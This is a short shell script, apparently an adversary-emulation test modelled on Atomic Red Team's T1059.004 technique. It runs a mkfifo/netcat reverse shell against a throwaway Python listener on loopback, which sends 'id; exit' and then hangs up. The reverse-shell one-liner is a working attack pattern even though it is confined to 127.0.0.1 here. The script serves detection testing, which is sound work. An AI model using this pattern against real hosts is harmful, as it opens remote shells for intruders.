#!/bin/sh
# T1059.004, after Atomic Red Team's netcat/mkfifo reverse shell: a shell wired through a FIFO
# to nc, connecting to a listener on loopback that sends one command and hangs up.
set -e
port=$((31000 + $$ % 10000))
fifo=$(mktemp -u)
ready=$(mktemp -u)
/usr/bin/python3 - "$port" "$ready" <<'PY' &
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(10)
open(sys.argv[2], "w").close()
c, _ = s.accept(); c.sendall(b"id; exit\n"); time.sleep(1); c.close()
PY
listener=$!
i=0; until [ -e "$ready" ] || [ $i -ge 150 ]; do sleep 0.1; i=$((i + 1)); done
sh -c "mkfifo $fifo; cat $fifo | sh -i 2>&1 | nc -q 1 127.0.0.1 $port > $fifo" 2>/dev/null || true
wait "$listener" || true
rm -f "$fifo"
rm -f "$ready"
